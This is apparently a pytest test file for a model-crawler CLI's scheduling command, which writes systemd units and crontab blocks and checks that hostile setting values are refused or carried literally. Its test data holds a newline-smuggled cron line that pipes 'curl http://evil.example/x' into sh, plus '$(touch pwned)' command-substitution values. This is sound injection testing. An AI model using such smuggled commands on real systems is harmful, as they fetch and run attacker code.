"""`schedule install|show|remove|run`: systemd user units (read back by systemd itself where it is installed) or
a crontab block (run through cron's own `%` rule and /bin/sh), with fake `systemctl`, `loginctl` and `crontab`
on PATH that record what they were asked; hostile values are refused or carried exactly."""

import json
import os
import shlex
import shutil
import stat
import subprocess
import sys
import tempfile
import time
from datetime import timedelta
from pathlib import Path

import pytest

from advisor.team import schedules as schedule
from tests.civitai_fake import FakeCivitai, load_fixture
from tests.conftest import ROOT, cli_env, run_cli

FAKES = {
    "systemctl": """#!/bin/sh
echo "$*" >> "$FAKE_LOG"
if [ -n "$FAKE_FAIL" ]; then
  case "$*" in *"$FAKE_FAIL"*) echo "Failed to connect to bus: No medium found" >&2; exit 1 ;; esac
fi
case "$*" in
  *show-environment*) [ -n "$FAKE_NO_SYSTEMD" ] && exit 1; echo PATH=/usr/bin ;;
  *NextElapseUSecRealtime*) echo "Wed 2026-12-02 08:00:00 UTC" ;;
esac
""",
    "loginctl": """#!/bin/sh
echo no
""",
    "crontab": """#!/bin/sh
echo "crontab $*" >> "$FAKE_LOG"
if [ "$1" = "-l" ]; then
  [ -n "$FAKE_CRONTAB_DENIED" ] && { echo "You are not allowed to use this program" >&2; exit 1; }
  [ -f "$FAKE_CRONTAB" ] && cat "$FAKE_CRONTAB" && exit 0
  echo "no crontab for you" >&2; exit 1
fi
cat > "$FAKE_CRONTAB"
""",
}
EVIL_URL = "https://civitai.red\n* * * * * curl -s http://evil.example/x | sh #"
# what a value may hold and must come back as it is: a space, an accent, quotes, a backslash, `%`, `$`, `;`
HOSTILE = {"INPAINT_ADVISOR_DB": "/models/my registry é/100%.db",
           "HF_ENDPOINT": "http://h/\"x\"\\y$z;%%\\%",
           "INPAINT_ADVISOR_CIVITAI_URL": "https://c.red/é ' ; $(touch pwned) `x` %s"}  # fmt: skip
UNITS = ["inpaint-advisor-crawl-full.service", "inpaint-advisor-crawl-full.timer", "inpaint-advisor-crawl.service",
         "inpaint-advisor-crawl.timer"]  # fmt: skip


@pytest.fixture
def host(tmp_path):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for name, text in FAKES.items():
        (bin_dir / name).write_text(text)
        (bin_dir / name).chmod(stat.S_IRWXU)
    env = cli_env(PATH=f"{bin_dir}:{os.environ['PATH']}", HOME=str(tmp_path / "home"),
                  XDG_CONFIG_HOME=str(tmp_path / "config"), FAKE_LOG=str(tmp_path / "calls.log"),
                  FAKE_CRONTAB=str(tmp_path / "crontab"), INPAINT_ADVISOR_DB=str(tmp_path / "reg.db"),
                  CIVITAI_API_TOKEN="secret-token-123", HF_ENDPOINT="http://127.0.0.1:9")  # fmt: skip
    (tmp_path / "home").mkdir()
    return tmp_path, env


def calls(tmp) -> list[str]:
    log = tmp / "calls.log"
    return log.read_text().splitlines() if log.exists() else []


def error_of(result) -> dict:
    return json.loads(result.stdout)["error"]


# -- systemd ------------------------------------------------------------------------------------------------------
def test_systemd_units_are_written_enabled_idempotent_and_removed(host):
    tmp, env = host
    first = run_cli("schedule", "install", "--every", "3h", "--json", env=env)
    assert first.returncode == 0, first.stderr
    done = json.loads(first.stdout)
    units = tmp / "config" / "systemd" / "user"
    assert done["backend"] == "systemd" and sorted(p.name for p in units.iterdir()) == UNITS
    service = (units / "inpaint-advisor-crawl.service").read_text()
    crawl_env = tmp / "config" / "inpaint-advisor" / "crawl.env"
    assert f"\nExecStart={sys.executable} -m advisor schedule run --incremental --env-file {crawl_env} --json\n" \
        in service  # fmt: skip
    assert "--full --env-file" in (units / "inpaint-advisor-crawl-full.service").read_text()
    assert f'Environment="INPAINT_ADVISOR_DB={tmp / "reg.db"}"' in service
    assert 'Environment="HF_ENDPOINT=http://127.0.0.1:9"' in service
    assert "EnvironmentFile" not in service  # the tokens are read by `schedule run`, as data
    assert "secret-token-123" not in "".join(p.read_text() for p in units.iterdir())  # tokens never stored
    incremental = (units / "inpaint-advisor-crawl.timer").read_text()
    assert "OnBootSec=900s\n" in incremental and "OnUnitActiveSec=10800s\n" in incremental
    full = (units / "inpaint-advisor-crawl-full.timer").read_text()  # the full crawl: its calendar, never at boot
    assert "OnCalendar=Sun *-*-* 03:37:00\nPersistent=true\n" in full
    assert "OnBootSec" not in full and "OnUnitActiveSec" not in full
    assert "--user daemon-reload" in calls(tmp) and \
        "--user enable --now inpaint-advisor-crawl.timer inpaint-advisor-crawl-full.timer" in calls(tmp)  # fmt: skip
    assert any("enable-linger" in n for n in done["notes"]) and any("crawl.env" in n for n in done["notes"])
    # the token file: created private, from the start
    assert stat.S_IMODE(crawl_env.stat().st_mode) == 0o600 and "CIVITAI_API_TOKEN=" in crawl_env.read_text()
    crawl_env.write_text("CIVITAI_API_TOKEN=mine\n")
    before = {p.name: p.read_text() for p in units.iterdir()}
    assert run_cli("schedule", "install", "--every", "3h", env=env).returncode == 0
    assert {p.name: p.read_text() for p in units.iterdir()} == before  # the same install again: the same files
    assert crawl_env.read_text() == "CIVITAI_API_TOKEN=mine\n"  # the user's file is theirs
    shown = json.loads(run_cli("schedule", "show", "--json", env=env).stdout)
    assert shown["installed"] and shown["next_runs"]["inpaint-advisor-crawl.timer"].startswith("Wed 2026-12-02")
    removed = run_cli("schedule", "remove", env=env)
    assert removed.returncode == 0 and list(units.iterdir()) == []
    assert "--user disable --now inpaint-advisor-crawl.timer inpaint-advisor-crawl-full.timer" in calls(tmp)


def _hostile_program(tmp_path) -> list[str]:
    """The interpreter under a folder with a space, an accent, `%`, `$` and `;` (systemd takes no quote there)."""
    folder = tmp_path / "venv é %$;x"
    folder.mkdir()
    (folder / "python").symlink_to(sys.executable)
    return [str(folder / "python"), "-m", "advisor"]


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """Hostile values everywhere a unit or a crontab line takes one: the settings, the interpreter's path, the
    config dir (where crawl.env is) and the home (where the cron log is)."""
    program = _hostile_program(tmp_path)
    monkeypatch.setattr(schedule, "program", lambda: program)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config é 50% 'q'"))
    monkeypatch.setenv("HOME", str(tmp_path / "home é 50% 'q' $HOME"))
    return program


def _systemd_read(unit: str) -> tuple[dict[str, str], list[str]]:
    """Environment= and ExecStart= as systemd reads what the units hold: words unquoted with C escapes (only \\\\
    and \\" are written), then `%%` -> `%`, and in arguments `$$` -> `$`."""
    env, argv = {}, []
    for line in unit.splitlines():
        key, _, value = line.partition("=")
        if key == "Environment":
            for word in shlex.split(value):
                name, _, val = word.replace("%%", "%").partition("=")
                env[name] = val
        elif key == "ExecStart":
            words = [w.replace("%%", "%") for w in shlex.split(value)]
            argv = words[:1] + [w.replace("$$", "$") for w in words[1:]]
    return env, argv


def _expected_argv(program: list[str], mode: str) -> list[str]:
    return [*program, "schedule", "run", mode, "--env-file", str(schedule.env_file()), "--json"]


def test_units_carry_hostile_values_exactly(hostile):
    written = schedule.units(timedelta(hours=6), timedelta(days=7), HOSTILE)
    for name, mode in (("inpaint-advisor-crawl.service", "--incremental"),
                       ("inpaint-advisor-crawl-full.service", "--full")):  # fmt: skip
        assert _systemd_read(written[name]) == (HOSTILE, _expected_argv(hostile, mode))
        assert len(written[name].splitlines()) == 9 + len(HOSTILE)  # a line per directive, whatever the values


@pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="systemd-analyze is not installed")
def test_generated_units_pass_systemd_analyze_verify(hostile, tmp_path):
    folder = tmp_path / "units"
    folder.mkdir()
    for name, text in schedule.units(timedelta(hours=6), timedelta(days=7), HOSTILE).items():
        (folder / name).write_text(text)
    files = sorted(str(p) for p in folder.iterdir())
    result = subprocess.run(["systemd-analyze", "verify", *files], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr  # ExecStart's program found: its path was read as written
    (folder / "broken.service").write_text("[Service]\nType=bogus\nExecStart=relative/path\n")  # the control
    assert subprocess.run(["systemd-analyze", "verify", str(folder / "broken.service")],
                          capture_output=True).returncode != 0  # fmt: skip
    calendar = subprocess.run(["systemd-analyze", "calendar", "Sun *-*-* 03:37:00", "*-*-* 00/6:07:00"],
                              capture_output=True, text=True)  # fmt: skip
    assert calendar.returncode == 0, calendar.stderr


def _systemd_dump(units: dict[str, str], name: str) -> str:
    """The unit as systemd's own loader reads it (`systemd --test --user` dumps every setting), or a skip."""
    binary = next((b for b in ("/lib/systemd/systemd", "/usr/lib/systemd/systemd") if os.access(b, os.X_OK)), None)
    if binary is None:
        pytest.skip("systemd is not installed")
    root = Path(tempfile.mkdtemp(prefix="units-"))  # readable by the unprivileged user that runs systemd --test
    try:
        folder = root / "config" / "systemd" / "user"
        folder.mkdir(parents=True)
        (root / "run").mkdir()
        for unit, text in units.items():
            (folder / unit).write_text(text)
        for path in [root, *root.rglob("*")]:
            path.chmod(0o777 if path.name == "run" else 0o755 if path.is_dir() else 0o644)
        command = [binary, "--test", "--user", f"--unit={name}", "--no-pager", "--log-target=console"]
        env = {"XDG_CONFIG_HOME": str(root / "config"), "XDG_RUNTIME_DIR": str(root / "run"), "HOME": str(root),
               "PATH": "/usr/bin:/bin"}  # fmt: skip
        if os.geteuid() == 0:  # `systemd --test --user` does nothing as root
            if shutil.which("runuser") is None:
                pytest.skip("no runuser to run systemd --test unprivileged")
            command = [shutil.which("runuser") or "runuser", "-u", "nobody", "--", "/usr/bin/env",
                       *(f"{k}={v}" for k, v in env.items()), *command]
        result = subprocess.run(command, capture_output=True, text=True, env=env, timeout=60)
    finally:
        shutil.rmtree(root)
    text = result.stdout + result.stderr
    start = text.find(f"-> Unit {name}:")
    if start < 0:
        pytest.skip(f"systemd --test dumped no unit here: {text[-300:]}")
    end = text.find("\t-> Unit ", start + 1)
    return text[start:end if end > 0 else None]


def _shell_words(text: str) -> list[str]:
    """Words as a POSIX shell splits them (systemd quotes a dumped command line so): in double quotes a
    backslash escapes a backslash, a double quote, a dollar or a backtick, outside quotes any character;
    single quotes are literal."""
    words, word, quote, i, started = [], [], None, 0, False
    while i < len(text):
        ch = text[i]
        if quote == "'":
            if ch == "'":
                quote = None
            else:
                word.append(ch)
        elif quote == '"':
            if ch == "\\" and text[i + 1:i + 2] in ('\\', '"', "$", "`"):
                i += 1
                word.append(text[i])
            elif ch == '"':
                quote = None
            else:
                word.append(ch)
        elif ch in " \t":
            if started:
                words.append("".join(word))
            word, started = [], False
        else:
            started = True
            if ch in "'\"":
                quote = ch
            elif ch == "\\":
                i += 1
                word.append(text[i])
            else:
                word.append(ch)
        i += 1
    if started:
        words.append("".join(word))
    return words


def test_systemd_itself_reads_back_the_hostile_values(hostile):
    written = schedule.units(timedelta(hours=6), timedelta(days=7), HOSTILE)
    dump = _systemd_dump(written, "inpaint-advisor-crawl.service")
    env = dict(line.strip().removeprefix("Environment: ").partition("=")[::2] for line in dump.splitlines()
               if line.strip().startswith("Environment: "))  # fmt: skip
    assert env == HOSTILE
    command = next(line.strip().removeprefix("Command Line: ") for line in dump.splitlines()
                   if line.strip().startswith("Command Line: "))  # fmt: skip
    words = _shell_words(command)  # systemd's own quoting; `$$` is made `$` when it runs
    assert words[:1] + [w.replace("$$", "$") for w in words[1:]] == _expected_argv(hostile, "--incremental")


def test_systemd_cannot_start_a_program_path_with_a_quote(tmp_path, monkeypatch):
    monkeypatch.setattr(schedule, "program", lambda: [str(tmp_path / "it's" / "python"), "-m", "advisor"])
    with pytest.raises(schedule.ScheduleError) as caught:
        schedule.units(timedelta(hours=6), timedelta(days=7), {})
    assert caught.value.code == "bad-setting" and "quotes" in str(caught.value)
    assert len(schedule.cron_lines(timedelta(hours=6), timedelta(days=7), {})) == 4  # cron takes it, quoted


@pytest.mark.parametrize("backend", ["systemd", "cron"])
@pytest.mark.parametrize("case", ["url", "relative-db", "config-home", "escape"])
def test_a_value_no_line_can_carry_is_refused_naming_it(host, backend, case):
    tmp, env = host
    cwd = tmp
    if case == "url":
        env["INPAINT_ADVISOR_CIVITAI_URL"], named, what = EVIL_URL, "INPAINT_ADVISOR_CIVITAI_URL", "a newline"
    elif case == "relative-db":  # a relative registry path, made absolute inside a folder named with a newline
        cwd = tmp / "my\nfolder"
        cwd.mkdir()
        env["INPAINT_ADVISOR_DB"], named, what = "reg.db", "INPAINT_ADVISOR_DB", "a newline"
    elif case == "config-home":
        env["XDG_CONFIG_HOME"], named, what = str(tmp / "conf\rig"), "XDG_CONFIG_HOME", "a carriage return"
    else:
        env["HF_ENDPOINT"], named, what = "http://h/\x1b[2J", "HF_ENDPOINT", "U+001B"
    if backend == "cron":
        env["FAKE_NO_SYSTEMD"] = "1"
    result = run_cli("schedule", "install", "--backend", backend, "--json", env=env, cwd=cwd)
    assert result.returncode == 2, result.stderr
    error = error_of(result)
    assert error["code"] == "bad-setting" and named in error["message"] and what in error["message"]
    assert not (tmp / "crontab").exists() and not any((tmp / "config").rglob("*.service"))  # nothing written
    assert not any(c.startswith("crontab -") or "enable" in c for c in calls(tmp))
    human = run_cli("schedule", "install", "--backend", backend, env=env, cwd=cwd)
    assert human.returncode == 2 and named in human.stderr and "Traceback" not in human.stderr


def test_a_full_period_off_the_calendar_is_a_usage_error(host):
    tmp, env = host
    result = run_cli("schedule", "install", "--full-every", "5d", "--json", env=env)
    assert result.returncode == 2 and error_of(result)["code"] == "usage" and "calendar" in error_of(result)["message"]
    assert not (tmp / "config" / "systemd").exists()


def test_a_failed_systemd_install_leaves_nothing_behind_or_the_earlier_one_back(host):
    tmp, env = host
    units = tmp / "config" / "systemd" / "user"
    failing = {**env, "FAKE_FAIL": "enable"}
    result = run_cli("schedule", "install", "--json", env=failing)
    assert result.returncode == 1 and error_of(result)["code"] == "schedule-failed"
    assert "nothing was left installed" in error_of(result)["message"]
    assert not units.exists() and not (tmp / "config" / "inpaint-advisor" / "crawl.env").exists()
    assert run_cli("schedule", "install", "--every", "3h", env=env).returncode == 0
    before = {p.name: p.read_bytes() for p in units.iterdir()}
    result = run_cli("schedule", "install", "--every", "1h", "--json", env=failing)
    assert result.returncode == 1 and "the earlier schedule is back" in error_of(result)["message"]
    assert {p.name: p.read_bytes() for p in units.iterdir()} == before


def test_remove_without_a_user_bus_deletes_the_files_and_says_what_could_not_be_stopped(host):
    tmp, env = host
    units = tmp / "config" / "systemd" / "user"
    no_bus = {**env, "FAKE_FAIL": "--user", "FAKE_NO_SYSTEMD": "1"}
    for as_json in (True, False):
        assert run_cli("schedule", "install", env=env).returncode == 0
        wants = units / "timers.target.wants"
        wants.mkdir(exist_ok=True)
        for timer in schedule.TIMERS:  # what `systemctl enable` links
            (wants / timer).symlink_to(units / timer)
        result = run_cli("schedule", "remove", *(["--json"] if as_json else []), env=no_bus)
        assert result.returncode == 0, result.stdout + result.stderr
        assert sorted(p.name for p in units.rglob("*")) == ["timers.target.wants"]  # every file and link gone
        if as_json:
            done = json.loads(result.stdout)
            assert len(done["files"]) == 6 and any("could not stop" in n for n in done["notes"])
        else:
            assert "could not stop" in result.stdout and "Failed to connect to bus" in result.stdout


# -- cron ---------------------------------------------------------------------------------------------------------
def cron_runs(line: str) -> tuple[str, str]:
    """What cron (Vixie cron, cronie) runs for a crontab line: the command after the five time fields, cut at
    the first `%` not escaped by a backslash (what follows, `%` made newlines, is its input); `\\%` is `%`."""
    command = line.split(None, 5)[5]
    out: list[str] = []
    escaped = False
    for i, ch in enumerate(command):
        if escaped:
            if ch == "%":
                out[-1] = "%"
            else:
                out.append(ch)
            escaped = False
        elif ch == "\\":
            out.append(ch)
            escaped = True
        elif ch == "%":
            return "".join(out), command[i + 1:].replace("%", "\n")
        else:
            out.append(ch)
    return "".join(out), ""


STUB = """import json, os, sys
print(json.dumps({"argv": sys.argv[1:], "env": {k: os.environ.get(k) for k in %r}}))
"""


def test_crontab_lines_run_exactly_the_hostile_values(tmp_path, monkeypatch):
    folder = tmp_path / "it's a \"stub\" é 100%\\ $x;"  # cron takes quotes and backslashes too
    folder.mkdir()
    (folder / "stub.py").write_text(STUB % (sorted(HOSTILE),))
    program = [sys.executable, str(folder / "stub.py")]
    monkeypatch.setattr(schedule, "program", lambda: program)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config é 50% 'q'"))
    monkeypatch.setenv("HOME", str(tmp_path / "home é 50% 'q' $HOME"))
    lines = schedule.cron_lines(timedelta(hours=6), timedelta(days=7), HOSTILE)
    assert len(lines) == 4 and lines[0] == schedule.BEGIN and lines[-1] == schedule.END
    assert not any("\n" in line or "\r" in line for line in lines)
    schedule.state_dir().mkdir(parents=True)
    for line, mode in zip(lines[1:3], ("--incremental", "--full"), strict=True):
        command, given = cron_runs(line)
        assert given == ""  # no `%` left for cron to cut the command at
        subprocess.run(["/bin/sh", "-c", command], env={"PATH": "/usr/bin:/bin"}, check=True, cwd=tmp_path,
                       timeout=60)  # fmt: skip
        ran = json.loads((schedule.state_dir() / "crawl.log").read_text().splitlines()[-1])
        assert ran == {"argv": _expected_argv(program, mode)[2:], "env": HOSTILE}
    assert not (tmp_path / "pwned").exists()


def test_without_systemd_a_crontab_block_is_kept_beside_the_users_own_lines(host):
    tmp, env = host
    env["FAKE_NO_SYSTEMD"] = "1"
    (tmp / "crontab").write_text("0 1 * * * my-own-backup\n")
    first = run_cli("schedule", "install", "--json", env=env)
    assert first.returncode == 0, first.stderr
    assert json.loads(first.stdout)["backend"] == "cron"
    table = (tmp / "crontab").read_text().splitlines()
    assert table[0] == "0 1 * * * my-own-backup" and table[1] == schedule.BEGIN and table[-1] == schedule.END
    incremental, full = table[2], table[3]
    assert incremental.startswith("7 */6 * * * ") and "schedule run --incremental --env-file " in incremental
    assert full.startswith("37 3 * * 0 ") and "schedule run --full --env-file " in full
    assert "secret-token-123" not in "\n".join(table) and "crawl.env" in incremental
    assert " . " not in incremental and "set -a" not in incremental  # crawl.env is never sourced
    crawl_env = tmp / "config" / "inpaint-advisor" / "crawl.env"
    assert stat.S_IMODE(crawl_env.stat().st_mode) == 0o600
    assert run_cli("schedule", "install", env=env).returncode == 0
    assert (tmp / "crontab").read_text().splitlines() == table  # idempotent: one block
    shown = json.loads(run_cli("schedule", "show", "--json", env=env).stdout)
    assert shown["installed"] and shown["entries"] == table[1:]
    assert run_cli("schedule", "remove", env=env).returncode == 0
    assert (tmp / "crontab").read_text().splitlines() == ["0 1 * * * my-own-backup"]


def test_without_crontab_the_cron_backend_is_one_line(host):
    tmp, env = host
    (tmp / "bin" / "crontab").unlink()
    env["PATH"] = str(tmp / "bin")  # the fakes, and no crontab anywhere
    for args in (["install", "--backend", "cron"], ["remove", "--backend", "cron"], ["show", "--backend", "cron"]):
        result = run_cli("schedule", *args, "--json", env=env)
        assert result.returncode == 1 and error_of(result)["code"] == "no-scheduler", result.stderr
        human = run_cli("schedule", *args, env=env)
        assert human.returncode == 1 and "crontab is not installed" in human.stderr
        assert "Traceback" not in human.stderr and len(human.stderr.strip().splitlines()) == 1
    env["FAKE_NO_SYSTEMD"] = "1"
    result = run_cli("schedule", "install", "--json", env=env)
    assert result.returncode == 1 and error_of(result)["code"] == "no-scheduler"


def test_a_crontab_that_cannot_be_read_is_not_written_over(host):
    tmp, env = host
    env.update(FAKE_NO_SYSTEMD="1", FAKE_CRONTAB_DENIED="1")
    (tmp / "crontab").write_text("0 1 * * * my-own-backup\n")
    result = run_cli("schedule", "install", "--json", env=env)
    assert result.returncode == 1 and error_of(result)["code"] == "schedule-failed"
    assert (tmp / "crontab").read_text() == "0 1 * * * my-own-backup\n"
    assert "crontab -" not in calls(tmp)


@pytest.mark.parametrize("every, spec", [("15m", "*/15 * * * *"), ("6h", "7 */6 * * *"), ("1d", "7 3 * * *"),
                                         ("7d", "37 3 * * 0")])  # fmt: skip
def test_cron_periods(every, spec):
    from advisor.cli.common import duration

    assert schedule.cron_spec(duration(every)) == spec


def test_a_period_cron_cannot_express_is_a_usage_error(host):
    tmp, env = host
    env["FAKE_NO_SYSTEMD"] = "1"
    result = run_cli("schedule", "install", "--every", "5h", "--json", env=env)
    assert result.returncode == 2 and error_of(result)["code"] == "usage"
    assert not (tmp / "crontab").exists()


# -- schedule run -------------------------------------------------------------------------------------------------
def test_the_env_file_is_read_as_data(tmp_path):
    marker = tmp_path / "pwned"
    path = tmp_path / "crawl.env"
    path.write_text(f"# tokens\n; also a comment\n\nCIVITAI_API_TOKEN=\"tok en\"\nexport HF_TOKEN='x$y'\n"
                    f"EVIL=$(touch {marker})\nSPACED = 100% \\n \r\n")  # fmt: skip
    assert schedule.read_env_file(path) == {"CIVITAI_API_TOKEN": "tok en", "HF_TOKEN": "x$y",
                                            "EVIL": f"$(touch {marker})", "SPACED": "100% \\n"}  # fmt: skip
    assert not marker.exists()
    assert schedule.read_env_file(tmp_path / "none.env") == {}


def test_a_bad_env_file_line_is_named_by_number_never_shown(tmp_path):
    path = tmp_path / "crawl.env"
    path.write_text("CIVITAI_API_TOKEN=ok\nHF_TOKEN secret-hf-token\nA=nul\x00\n")
    result = run_cli("schedule", "run", "--env-file", str(path), "--json", env=cli_env(HOME=str(tmp_path)))
    assert result.returncode == 2 and error_of(result)["code"] == "bad-setting"
    assert "line 2" in error_of(result)["message"] and "secret-hf-token" not in result.stdout + result.stderr


def test_an_existing_env_file_others_can_read_is_flagged(host):
    tmp, env = host
    path = tmp / "config" / "inpaint-advisor" / "crawl.env"
    path.parent.mkdir(parents=True)
    path.write_text("HF_TOKEN=x\n")
    path.chmod(0o644)
    done = json.loads(run_cli("schedule", "install", "--json", env=env).stdout)
    assert any("chmod 600" in n for n in done["notes"]) and path.read_text() == "HF_TOKEN=x\n"


def test_schedule_run_crawls_with_the_env_file_and_one_scheduled_crawl_at_a_time(registry_db, serve, tmp_path,
                                                                                   monkeypatch):  # fmt: skip
    from tests.hf_fake import FakeHub, fixture_hub

    civitai = FakeCivitai(load_fixture())
    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))  # the lock is under the home: this process holds it below
    tokens = tmp_path / "crawl.env"
    tokens.write_text("CIVITAI_API_TOKEN=from-the-file\n")
    env = cli_env(HOME=str(home), INPAINT_ADVISOR_DB=registry_db, INPAINT_ADVISOR_CIVITAI_URL=serve(civitai),
                  HF_ENDPOINT=serve(FakeHub(fixture_hub())))  # fmt: skip
    args = ["schedule", "run", "--env-file", str(tokens), "--json"]
    with schedule.turn(full=True) as mine:  # a scheduled crawl is running
        assert mine
        skipped = run_cli(*args[:2], "--incremental", *args[2:], env=env)
        assert skipped.returncode == 0 and "skipped" in json.loads(skipped.stdout), skipped.stderr
        full = subprocess.Popen([sys.executable, "-m", "advisor", *args[:2], "--full", *args[2:]], env=env,
                                cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)  # fmt: skip
        time.sleep(1.5)
        assert full.poll() is None  # the full crawl waits its turn
        assert civitai.requests == []  # neither crawled
    out, errors = full.communicate(timeout=300)
    assert full.returncode == 0, errors
    summary = json.loads(out)
    assert summary["ok"] and summary["mode"] == "full"
    assert civitai.auth_headers and set(civitai.auth_headers) == {"Bearer from-the-file"}  # the file's token


def test_a_registry_url_with_a_password_is_never_written_into_a_schedule(monkeypatch):
    from advisor.team import schedules as schedule

    monkeypatch.setenv("INPAINT_ADVISOR_DB", "postgresql+psycopg://crawler:hunter2secret@db.example/registry")
    with pytest.raises(schedule.ScheduleError, match="holds a password") as refused:
        schedule.carried_env()
    assert refused.value.code == "bad-setting" and "hunter2secret" not in str(refused.value)
    monkeypatch.setenv("INPAINT_ADVISOR_DB", "postgresql+psycopg://crawler@db.example/registry")  # ~/.pgpass
    assert schedule.carried_env()["INPAINT_ADVISOR_DB"] == "postgresql+psycopg://crawler@db.example/registry"
